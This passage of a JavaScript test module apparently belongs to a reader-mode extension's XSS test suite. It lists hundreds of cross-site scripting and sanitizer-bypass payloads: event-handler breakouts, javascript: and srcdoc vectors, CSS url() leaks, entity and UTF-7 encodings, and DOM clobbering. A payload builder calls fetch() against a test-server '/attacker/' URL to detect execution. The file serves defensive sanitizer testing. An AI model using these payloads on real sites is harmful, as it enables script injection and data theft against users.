  ['title-single-quote', '<p><abbr title=\'" onmouseover={{JS}} "\'>abbr</abbr></p>', 'double quotes inside a single-quoted title'],
  ['datetime-breakout', '<p><time datetime="&quot;&gt;&lt;img src=x onerror={{JS}}&gt;">time</time></p>', 'datetime with markup'],
  ['lang-breakout', '<p lang="en&quot; onclick=&quot;{{JS}}">lang</p>', 'lang closing its quote'],
  ['dir-breakout', '<p dir=\'rtl" onclick="{{JS}}\'>dir</p>', 'dir with a double quote'],
  ['id-breakout', '<p id="x&quot;onclick=&quot;{{JS}}">id</p>', 'an id with a quote (the core prefixes ids)'],
  ['code-class-breakout', '<pre><code class="language-js&quot; onclick=&quot;{{JS}}">code</code></pre>', 'a code class with a quote'],
  ['colspan-breakout', '<table><tr><td colspan="2&quot; onclick=&quot;{{JS}}">cell</td></tr></table>', 'colspan with a quote'],
  ['start-breakout', '<ol start="1&quot; onclick=&quot;{{JS}}"><li>item</li></ol>', 'ol start with a quote'],
  ['width-breakout', '<img src=x width="10&quot; onerror=&quot;{{JS}}" alt=w>', 'img width with a quote'],
  ['srcset-breakout', '<img src=x srcset="x 1x, y&quot; onerror=&quot;{{JS}} 2x" alt=s>', 'srcset with a quote'],
  ['href-quote', '<p><a href="https://example.com/&quot;onclick=&quot;{{JS}}">href quote</a></p>', 'a quote inside a web URL'],
  ['href-fragment-quote', '<p><a href="#x&quot;onmouseover=&quot;{{JS}}">fragment</a></p>', 'a quote inside an in-page link'],
  ['href-fragment-markup', '<p><a href="#x&lt;img src=x onerror={{JS}}&gt;">fragment markup</a></p>', 'markup inside an in-page link'],
  ['mailto-markup', '<p><a href="mailto:desk@example.com?body=&lt;/a&gt;&lt;img src=x onerror={{JS}}&gt;">mail</a></p>', 'markup inside a mailto link'],
  ['src-quote', '<img src="https://example.com/x.png&quot; onerror=&quot;{{JS}}" alt=q>', 'a quote inside an image URL'],
  ['data-image-quote', '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==&quot; onerror=&quot;{{JS}}" alt=d>', 'a quote after an inline image'],
  ['li-value', '<ol><li value="1&quot;onclick=&quot;{{JS}}">item</li></ol>', 'li value with a quote'],
  ['details-open', '<details open="&quot; ontoggle=&quot;{{JS}}"><summary>s</summary><p>d</p></details>', 'details open with a quote'],
  ['template-shadow', '<div><template shadowrootmode=open><img src=x onerror={{JS}}></template></div>', 'a declarative shadow root attaches live content'],
  ['template-shadow-closed', '<div><template shadowrootmode=closed><svg onload={{JS}}></svg></template><p>light DOM</p></div>', 'a closed declarative shadow root'],
  ['template-inert', '<template><img src=x onerror={{JS}}></template>', 'template content is inert until cloned; unwrapped, it is not'],
  ['listing', '<listing><img src=x onerror={{JS}}></listing>', 'listing is not raw text: its content is markup'],
  ['image-in-select', '<select><option><img src=x onerror={{JS}}></option></select>', 'customizable select keeps markup in options'],
  ['form-in-form', '<form id=outer><form id=inner action="javascript:{{JS}}"><button>go</button></form></form>', 'a nested form is dropped by the parser'],
  ['button-page-form', '<button form=search formaction="javascript:{{JS}}">search</button>', 'a button that submits the page\'s own form by id'],
  ['object-param', '<object data=x><param name=src value="javascript:{{JS}}"></object>', 'object parameters'],
  ['isindex', '<isindex action="javascript:{{JS}}" type=image>', 'the obsolete isindex'],
];
for (const [id, html, why] of MXSS) add('mxss', id, html, why);

// ---------------------------------------------------------------------------------------
// broken: malformed markup that tokenizers disagree on. tail: it swallows or reshapes what
// follows it, so it goes last in its page.

const BROKEN = [
  ['img-slash', '<img/src="x"/onerror={{JS}}>', 'slashes instead of spaces'],
  ['svg-slash', '<svg/onload={{JS}}/>', 'a slash-separated SVG handler'],
  ['body-slash', '<body/onload={{JS}}>', 'a slash-separated body handler'],
  ['iframe-slash', '<iframe/src="javascript:{{JS}}"></iframe>', 'a slash-separated frame'],
  ['a-slash', '<p><a/href="javascript:{{JS}}">slash link</a></p>', 'a slash-separated link'],
  ['newline-separator', '<img src=x\nonerror={{JS}}>', 'a newline between attributes'],
  ['tab-separator', '<img src=x\tonerror={{JS}}>', 'a tab between attributes'],
  ['formfeed-separator', '<img src=x\fonerror={{JS}}>', 'a form feed is whitespace to HTML'],
  ['spaces-around-equals', '<img src=x onerror \n=\n "{{JS}}">', 'whitespace around ='],
  ['no-space', '<img src="x"onerror="{{JS}}">', 'no space after a quoted value'],
  ['no-space-link', '<p><a href="https://example.com/"onclick="{{JS}}">nospace</a></p>', 'no space on a link'],
  ['upper-case', '<IMG SRC=x ONERROR={{JS}}>', 'upper case'],
  ['mixed-case', '<iMg sRc=x OnErRoR={{JS}}>', 'mixed case'],
  ['double-lt', '<<img src=x onerror={{JS}}>', 'a doubled <'],
  ['nested-script', '<scr<script>ipt>{{JS}}</scr</script>ipt>', 'a script hidden inside a broken tag name'],
  ['script-slash', '<script/xss>{{JS}}</script>', 'a slash after script'],
  ['script-newline', '<script\n>{{JS}}</script\n>', 'a newline in script tags'],
  ['script-upper', '<SCRIPT>{{JS}}</SCRIPT>', 'upper-case script'],
  ['script-module', '<script type=module>{{JS}}</script>', 'a module script'],
  ['script-early-end', '<script>/*</script><img src=x onerror={{JS}}>*/</script>', 'a comment cannot hide </script>'],
  ['attr-name-lt', '<div <img src=x onerror={{JS}}>>text</div>', '<img becomes an attribute name of div'],
  ['quote-soup', '<img """><script>{{JS}}</script>">', 'quotes in an attribute name'],
  ['alt-quote-soup', '<img src=x alt="""><img src=x onerror={{JS}}>">', 'an empty alt followed by a stray quote'],
  ['p-slash-handler', '<p/onclick={{JS}}>slash paragraph</p>', 'a slash-separated paragraph handler'],
  ['custom-tag', '<x onclick={{JS}}>custom</x>', 'an unknown tag with a handler'],
  ['namespaced-script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{{JS}}</x:script>', 'a prefixed script (XHTML only)'],
  ['nested-links', '<p><a href="https://example.com/"><a href="javascript:{{JS}}">nested</a></a></p>', 'a link inside a link'],
  ['td-background', '<table><tr><td background="javascript:{{JS}}">cell</td></tr></table>', 'a javascript: table background'],
  ['null-in-attribute', '<img src=x on\u0000error={{JS}}>', 'a NUL inside a handler name'],
  ['null-in-tag', '<scr\u0000ipt>{{JS}}</scr\u0000ipt>', 'a NUL inside a tag name'],
  ['entity-tag-name', '<&#115;cript>{{JS}}</&#115;cript>', 'a reference in a tag name is text'],
  ['frameset-body', '<frameset onload={{JS}}><frame src="javascript:{{JS}}"><noframes>no frames</noframes></frameset>', 'a frameset after body content'],
  // tail: these change everything after them.
  ['unclosed-img', '<img src=x onerror={{JS}}//', 'an img never closed: the next tag\'s < ends it', { tail: true }],
  ['unclosed-quote', '<img src="x" onerror="{{JS}}"', 'an unclosed img with quoted handler', { tail: true }],
  ['unclosed-href-quote', '<p><a href="javascript:{{JS}}>broken</a>">text</a></p>', 'an unclosed href quote swallows the next tags', { tail: true }],
  ['unclosed-trailing-attr', '<img src=x onerror={{JS}} x="', 'an attribute whose quote never closes', { tail: true }],
  ['plaintext', '<plaintext><img src=x onerror={{JS}}>', 'plaintext makes the rest of the page text', { tail: true }],
  ['unclosed-textarea', '<textarea><img src=x onerror={{JS}}>', 'an unclosed textarea', { tail: true }],
  ['unclosed-title', '<title><img src=x onerror={{JS}}>', 'an unclosed title', { tail: true }],
  ['unclosed-style', '<style><img src=x onerror={{JS}}>', 'an unclosed style', { tail: true }],
  ['unclosed-comment', '<!--<img src=x onerror={{JS}}>', 'an unclosed comment', { tail: true }],
  ['unclosed-svg', '<svg><p>after svg</p><img src=x onerror={{JS}}><circle r=5>', 'an unclosed svg', { tail: true }],
  ['unclosed-math', '<math><mtext><img src=x onerror={{JS}}><mi>x', 'an unclosed math', { tail: true }],
  ['unclosed-select', '<select><img src=x onerror={{JS}}><p>swallowed</p>', 'an unclosed select', { tail: true }],
  ['unclosed-template', '<template><img src=x onerror={{JS}}>', 'an unclosed template takes the rest of the page', { tail: true }],
  ['unclosed-a', '<p><a href="javascript:{{JS}}">open link</p><p>The link is reopened here.</p>', 'an unclosed link is reconstructed into the next blocks', { tail: true }],
  ['unclosed-noscript', '<noscript><img src=x onerror={{JS}}>', 'an unclosed noscript', { tail: true }],
  ['unclosed-iframe', '<iframe><img src=x onerror={{JS}}>', 'an unclosed iframe', { tail: true }],
  ['unclosed-noembed', '<noembed><img src=x onerror={{JS}}>', 'an unclosed noembed', { tail: true }],
  ['unclosed-xmp', '<xmp><img src=x onerror={{JS}}>', 'an unclosed xmp', { tail: true }],
  ['unclosed-script', '<script>{{JS}}', 'an unclosed script', { tail: true }],
  ['unclosed-form', '<form action="javascript:{{JS}}"><p>form text</p><button>Send</button>', 'an unclosed form owns the buttons after it', { tail: true }],
  ['unclosed-table', '<table><tr><td>cell<img src=x onerror={{JS}}>', 'an unclosed table', { tail: true }],
  ['eof-in-tag', '<img src=x onerror={{JS}}', 'the page ends inside a tag', { solo: true, eof: true }],
];
for (const [id, html, why, extra] of BROKEN) add('broken', id, html, why, extra);

// ---------------------------------------------------------------------------------------
// css: style that loads the attacker URL, or runs script in engines that allowed it.

const CSS = [
  ['style-background', '<p style="background:url({{URL}})">styled</p>', 'a background image in a style attribute'],
  ['style-background-quoted', '<p style="background-image:url(\'{{URL}}\')">styled</p>', 'a quoted url()'],
  ['style-background-entity', '<p style="background:url(&quot;{{URL}}&quot;)">styled</p>', 'a url() quoted with references'],
  ['style-list-style', '<ul><li style="list-style-image:url({{URL}})">item</li></ul>', 'a list marker image'],
  ['style-cursor', '<p style="cursor:url({{URL}}),auto">cursor</p>', 'a cursor image'],
  ['style-border-image', '<p style="border:10px solid;border-image:url({{URL}}) 30">border</p>', 'a border image'],
  ['style-mask', '<p style="-webkit-mask-image:url({{URL}});mask-image:url({{URL}})">mask</p>', 'a mask image'],
  ['style-content', '<p style="content:url({{URL}})">content</p>', 'content:url() on an element'],
  ['style-image-set', '<p style="background-image:image-set(url({{URL}}) 1x)">image-set</p>', 'image-set()'],
  ['style-escaped-property', '<p style="b\\61ckground:url({{URL}})">escaped property</p>', 'a CSS escape in the property name'],
  ['style-escaped-function', '<p style="background:u\\72l({{URL}})">escaped function</p>', 'a CSS escape in url'],
  ['style-all-escaped', '<p style="background:\\75\\72\\6c({{URL}})">all escaped</p>', 'url written only with escapes'],
  ['style-comment', '<p style="background:url({{URL}})/*x*/;color:red">comment</p>', 'a comment after the value'],
  ['style-important', '<p style="background:url({{URL}})!important">important</p>', '!important'],
  ['style-custom-property', '<p style="--x:url({{URL}});background:var(--x)">var</p>', 'a custom property'],
  ['style-shape-outside', '<p style="float:left;shape-outside:url({{URL}})">shape</p>', 'shape-outside loads an image'],
  ['style-filter', '<p style="filter:url({{URL}}#f)">filter</p>', 'an external SVG filter'],
  ['style-protocol-relative', '<p style="background:url({{PRURL}})">protocol-relative</p>', 'a protocol-relative URL'],
  ['style-entity-property', '<p style="b&#97;ckground:url({{URL}})">entity property</p>', 'a character reference in the style attribute'],
  ['style-entity-parens', '<p style="background:url&#40;{{URL}}&#41;">entity parens</p>', 'references for the parentheses'],
  ['expression', '<p style="width:expression({{JS}})">expression</p>', 'IE CSS expressions'],
  ['expression-escaped', '<p style="width:expr\\65ssion({{JS}})">expression</p>', 'an escaped expression()'],
  ['moz-binding', '<p style="-moz-binding:url({{URL}}#xss)">binding</p>', 'old Firefox XBL bindings'],
  ['behavior', '<p style="behavior:url({{URL}})">behavior</p>', 'IE .htc behaviors'],
  ['background-javascript', '<p style="background:url(javascript:{{JS}})">js background</p>', 'a javascript: image (old engines)'],
  ['style-import', '<style>@import url({{URL}});</style>', 'an @import in a style element'],
  ['style-import-string', '<style>@import "{{URL}}";</style>', 'an @import of a string'],
  ['style-rule', '<style>p{background:url({{URL}})}</style>', 'a rule with a background image'],
  ['style-font-face', '<style>@font-face{font-family:leak;src:url({{URL}})}p{font-family:leak}</style>', 'a web font'],
  ['style-universal-cursor', '<style>*{cursor:url({{URL}}),auto}</style>', 'a cursor on everything'],
  ['style-hover', '<style>a:hover{background:url({{URL}})}</style>', 'a leak on hover only'],
  ['style-data-import', '<style>@import url("data:text/css,p{background:url({{URL}})}");</style>', 'an @import of a data: stylesheet'],
  ['link-stylesheet', '<link rel=stylesheet href="{{URL}}">', 'an external stylesheet'],
  ['link-preload-style', '<link rel=preload as=style href="{{URL}}">', 'a preload'],
  ['link-preload-image', '<link rel=preload as=image href="{{URL}}">', 'an image preload'],
  ['link-prefetch', '<link rel=prefetch href="{{URL}}">', 'a prefetch'],
  ['link-icon', '<link rel=icon href="{{URL}}">', 'an icon'],
  ['link-modulepreload', '<link rel=modulepreload href="{{URL}}">', 'a module preload'],
  ['link-import', '<link rel=import href="{{URL}}">', 'HTML imports (removed, but a request in old engines)'],
];
for (const [id, html, why] of CSS) add('css', id, html, why);

// ---------------------------------------------------------------------------------------
// resource: attributes that make the reader fetch the attacker URL (not an article image).

const RESOURCE = [
  ['table-background', '<table background="{{URL}}"><tr><td>cell</td></tr></table>', 'table background loads an image'],
  ['td-background', '<table><tr><td background="{{URL}}">cell</td></tr></table>', 'cell background'],
  ['body-background', '<body background="{{URL}}">', 'a merged body background'],
  ['img-lowsrc', '<img src=x lowsrc="{{URL}}" alt=low>', 'lowsrc (old)'],
  ['img-dynsrc', '<img src=x dynsrc="{{URL}}" alt=dyn>', 'dynsrc (old IE)'],
  ['input-image', '<input type=image src="{{URL}}">', 'an image button'],
  ['video-poster', '<video poster="{{URL}}"></video>', 'a video poster'],
  ['video-src', '<video src="{{URL}}" preload=auto></video>', 'a video source'],
  ['video-source', '<video preload=auto><source src="{{URL}}"></video>', 'a source element'],
  ['audio-src', '<audio src="{{URL}}" preload=auto></audio>', 'an audio source'],
  ['video-track', '<video><track default src="{{URL}}"></video>', 'a text track'],
  ['object-data', '<object data="{{URL}}"></object>', 'an object document'],
  ['object-html', '<object type=text/html data="{{URL}}"></object>', 'an object typed HTML'],
  ['embed-src', '<embed src="{{URL}}">', 'an embed'],
  ['embed-svg', '<embed type=image/svg+xml src="{{URL}}">', 'an SVG embed'],
  ['iframe-src', '<iframe src="{{URL}}"></iframe>', 'a frame (not a known embed host)'],
  ['iframe-protocol-relative', '<iframe src="{{PRURL}}"></iframe>', 'a protocol-relative frame'],
  ['iframe-lazy', '<iframe loading=lazy src="{{URL}}"></iframe>', 'a lazy frame'],
  ['frame-src', '<frameset><frame src="{{URL}}"></frameset>', 'a frame'],
  ['script-src', '<script src="{{URL}}"></script>', 'an external script'],
  ['script-module-src', '<script type=module src="{{URL}}"></script>', 'an external module'],
  ['script-defer', '<script defer async src="{{URL}}"></script>', 'a deferred script'],
  ['a-ping', '<p><a href="https://example.com/" ping="{{URL}}">ping link</a></p>', 'ping sends a request on click'],
  ['area-ping', '<img src=x usemap=#pm alt=pm><map name=pm><area shape=default href="https://example.com/" ping="{{URL}}"></map>', 'an area with ping'],
  ['meta-refresh', '<meta http-equiv=refresh content="0;url={{URL}}">', 'a refresh navigates the page'],
  ['meta-refresh-quoted', '<meta http-equiv="Refresh" content="0; URL=\'{{URL}}\'">', 'a refresh with a quoted URL'],
  ['meta-refresh-js', '<meta http-equiv=refresh content="0;url=javascript:{{JS}}">', 'a refresh to javascript:'],
  ['portal', '<portal src="{{URL}}"></portal>', 'a portal'],
  ['applet-codebase', '<applet code=X.class codebase="{{URL}}"></applet>', 'an applet'],
  ['bgsound', '<bgsound src="{{URL}}">', 'bgsound (old IE)'],
  ['form-action', '<form action="{{URL}}"><button>Send</button></form>', 'a form that submits to the attacker on click'],
  ['form-post', '<form method=post action="{{URL}}"><input name=q value=secret><button>Send</button></form>', 'a POST form'],
  ['button-formaction', '<form><button formaction="{{URL}}">Send</button></form>', 'a button formaction'],
  ['fencedframe', '<fencedframe src="{{URL}}"></fencedframe>', 'a fenced frame'],
  ['model', '<model src="{{URL}}"></model>', 'a proposed 3D model element'],
  ['link-in-body', '<p>text</p><link rel=stylesheet href="{{URL}}"><p>text</p>', 'a stylesheet link in body content'],
];
for (const [id, html, why] of RESOURCE) add('resource', id, html, why);

// ---------------------------------------------------------------------------------------
// srcdoc: documents inside an attribute.

const SRCDOC = [
  ['script', '<iframe srcdoc="<script>{{JS}}</script>"></iframe>', 'a script in srcdoc'],
  ['escaped', '<iframe srcdoc="&lt;script&gt;{{JS}}&lt;/script&gt;"></iframe>', 'srcdoc written with references (decoded before it is parsed)'],
  ['numeric', '<iframe srcdoc="&#60;script&#62;{{JS}}&#60;/script&#62;"></iframe>', 'numeric references'],
  ['img', '<iframe srcdoc="<img src=x onerror={{JS}}>"></iframe>', 'an img with a handler in srcdoc'],
  ['svg', '<iframe srcdoc="<svg onload={{JS}}>"></iframe>', 'an svg in srcdoc'],
  ['nested', '<iframe srcdoc="<iframe srcdoc=\'<script>{{JS}}</script>\'></iframe>"></iframe>', 'srcdoc inside srcdoc'],
  ['sandbox-scripts', '<iframe sandbox="allow-scripts" srcdoc="<script>{{JS}}</script>"></iframe>', 'a sandbox that allows scripts'],
  ['refresh', '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url={{URL}}\'>"></iframe>', 'a refresh inside srcdoc'],
  ['stylesheet', '<iframe srcdoc="<link rel=stylesheet href={{URL}}>"></iframe>', 'a stylesheet inside srcdoc'],
  ['with-src', '<iframe src="about:blank" srcdoc="<script>{{JS}}</script>"></iframe>', 'srcdoc wins over src'],
  ['upper', '<IFRAME SRCDOC="<script>{{JS}}</script>"></IFRAME>', 'upper case'],
  ['frame', '<frame srcdoc="<script>{{JS}}</script>">', 'srcdoc on frame (not a thing; must not become one)'],
];
for (const [id, html, why] of SRCDOC) add('srcdoc', id, html, why);

// ---------------------------------------------------------------------------------------
// formaction: forms and submit buttons.

const FORMS = [
  ['autosubmit', '<form action="javascript:{{JS}}"><input autofocus onfocus=this.form.requestSubmit()></form>', 'a form that submits itself to javascript: on load'],
  ['input-image', '<form><input type=image src=x formaction="javascript:{{JS}}"></form>', 'an image button with formaction'],
  ['button-outside', '<form id=lf></form><button form=lf formaction="javascript:{{JS}}">outside</button>', 'a button outside its form, linked by id'],
  ['formtarget', '<form><button formtarget=_top formaction="javascript:{{JS}}">top</button></form>', 'formtarget _top'],
  ['formmethod', '<form><button formmethod=post formaction="{{URL}}">post</button></form>', 'a POST formaction'],
  ['label-for', '<form action="javascript:{{JS}}"><label>click<input type=submit></label></form>', 'a label that submits'],
  ['entity-formaction', '<form><button formaction="&#106;avascript:{{JS}}">ref</button></form>', 'a reference in formaction'],
  ['isindex-formaction', '<isindex type=image src=x formaction="javascript:{{JS}}">', 'isindex with formaction'],
  ['button-onclick', '<button onclick={{JS}}>button</button>', 'a plain button with a handler'],
  ['input-submit-onclick', '<form><input type=submit onclick={{JS}} value=go></form>', 'a submit input with a handler'],
  ['select-onchange', '<select onchange={{JS}}><option>a</option><option>b</option></select>', 'a select with a handler'],
  ['output-oninput', '<form oninput={{JS}}><input type=range><output>5</output></form>', 'a range input in a form with a handler'],
];
for (const [id, html, why] of FORMS) add('formaction', id, html, why);

// ---------------------------------------------------------------------------------------
// base: <base> in the head or the article, trying to turn relative URLs into scripts.

const BASE = [
  ['head-javascript', '<p><a href="relative.html">relative</a></p>', 'a javascript: base in the head turns relative links into javascript:', { head: '<base href="javascript:{{JS}}//">' }],
  ['head-entity', '<p><a href="other.html">relative</a></p>', 'the same with a reference in the scheme', { head: '<base href="&#106;avascript:{{JS}}//">' }],
  ['head-data', '<p><a href="x.html">relative</a></p>', 'a data: base', { head: '<base href="data:text/html;base64,{{HTML_B64}}">' }],
  ['body-javascript', '<base href="javascript:{{JS}}//"><p><a href="foo">relative</a><img src=pic.png alt=p></p>', 'a javascript: base inside the article'],
  ['body-javascript-slash', '<base href="javascript:/a/-{{JS}}///"><p><a href="bar">relative</a></p>', 'a javascript: base that is also a regular expression'],
  ['body-web', '<base href="{{URL}}/"><p><a href="baz">relative</a></p>', 'a web base inside the article: must not reach the reader\'s page', { solo: true }],
  ['body-protocol-relative', '<base href="{{PRURL}}/"><p><a href="qux">relative</a></p>', 'a protocol-relative base', { solo: true }],
  ['head-web-target', '<p><a href="frame.html">relative</a></p>', 'a base with only a target', { head: '<base target="_top">' }],
];
for (const [id, html, why, extra] of BASE) add('base', id, html, why, extra);

// ---------------------------------------------------------------------------------------
// entity: character references in handlers, styles and srcdoc (the parser decodes them
// before the script or the URL sees them).

const ENTITY = [
  ['handler-dec', '<img src=x onerror="{{JS_DEC}}">', 'a handler written as decimal references'],
  ['handler-hex', '<img src=x onerror="{{JS_HEX}}">', 'a handler written as hex references'],
  ['handler-unquoted-dec', '<img src=x onerror={{JS_DEC}}>', 'the same, unquoted'],
  ['a-href-hex-js', '<p><a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{{JS_HEX}}">hex link</a></p>', 'scheme and script as hex references'],
  ['iframe-src-dec-js', '<iframe src="javascript:{{JS_DEC}}"></iframe>', 'the script as decimal references'],
  ['srcdoc-dec', '<iframe srcdoc="&#60;img src=x onerror={{JS_DEC}}&#62;"></iframe>', 'srcdoc markup and script as references'],
  ['meta-refresh-dec', '<meta http-equiv=refresh content="0;url=&#106;avascript:{{JS}}">', 'a refresh to a javascript: URL with a reference'],
  ['utf7-text', '<p>+ADw-img src+AD0-x onerror+AD0-{{JS}}+AD4-</p>', 'UTF-7 markup (only dangerous if something decodes UTF-7)'],
  ['fullwidth', '<p>＜img src=x onerror={{JS}}＞</p>', 'fullwidth angle brackets (only dangerous if something folds them)'],
  ['utf7-charset', '<p>+ADw-script+AD4-{{JS}}+ADw-/script+AD4-</p>', 'a page that declares UTF-7', { head: '<meta charset="utf-7">', solo: true }],
  ['utf7-http-equiv', '<p>+ADw-img src+AD0-x onerror+AD0-{{JS}}+AD4-</p>', 'UTF-7 declared through http-equiv', { head: '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">', solo: true }],
];
for (const [id, html, why, extra] of ENTITY) add('entity', id, html, why, extra);

// ---------------------------------------------------------------------------------------
// clobber: ids and names that would shadow the page's or the reader's globals. Not script
// by themselves, but they break code that trusts document.* or window.*. (live: false for
// __lectern: it keeps the content script from starting on a live page, which
// xss.test.mjs tests on its own.)

const CLOBBER = [
  ['getelementbyid', '<img name=getElementById src=x alt=c>', 'document.getElementById shadowed by a named img'],
  ['queryselector', '<form name=querySelector></form>', 'document.querySelector shadowed by a named form'],
  ['createelement', '<embed name=createElement>', 'document.createElement shadowed by a named embed'],
  ['lectern-state', '<a id=__lectern href="https://example.com/">state</a>', 'window.__lectern, the content script\'s state: named elements show through to its isolated world', { live: false }],
  ['xss-hook', '<a id=__xss href="https://example.com/">hook</a><img name=__xss src=x alt=h>', 'the test\'s own hook'],
  ['reader-id', '<p id=reader>an element whose id the core prefixes into lectern-reader</p>', 'the core prefixes ids with lectern-: this one collides with the reader root'],
  ['notice-id', '<p id=notice>notice</p>', 'collides with #lectern-notice, which content.js removes on each action'],
  ['settings-id', '<form id=settings><p>settings</p></form>', 'collides with #lectern-settings, the toolbar panel'],
];
for (const [id, html, why, extra] of CLOBBER) add('clobber', id, html, why, extra);

export const VECTORS = vectors;

/** Vectors by group, in order. */
export function byGroup() {
  const groups = {};
  for (const v of vectors) (groups[v.group] ??= []).push(v);
  return groups;
}

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');

/** The payload for vector `id`, reporting to `url`. */
export function payload(id, url) {
  return `try{top.__xss(\`${id}\`)}catch(e){}fetch(\`${url}\`);void(0)`;
}

/**
 * A vector's markup (and head markup) for one phase: `origin` is the test server's,
 * `phase` names the test pass (it is in every attacker URL, so a request says which pass
 * made it).
 */
export function expand(vector, { origin, phase }) {
  const url = `${origin}/attacker/${phase}/${vector.id}`;
  const js = payload(vector.id, url);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script></svg>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${js}</script></body></html>`;
  const values = {
    ID: vector.id,
    JS: js,
    URL: url,
    PRURL: url.replace(/^https?:/, ''),
    ORIGIN: origin,
    JS_DEC: [...js].map((c) => `&#${c.codePointAt(0)};`).join(''),
    JS_HEX: [...js].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join(''),
    JS_PCT: [...Buffer.from(js, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
    HTML_B64: b64(`<script>${js}</script>`),
    SVG_B64: b64(svg),
    SVG_URL: encodeURIComponent(svg),
    XHTML_B64: b64(xhtml),
  };
  const fill = (s) => s?.replace(/\{\{([A-Z_0-9]+)\}\}/g, (_, k) => {
    if (!(k in values)) throw new Error(`unknown placeholder {{${k}}} in ${vector.id}`);
    return values[k];
  });
  return { ...vector, html: fill(vector.html), head: fill(vector.head), url };
}
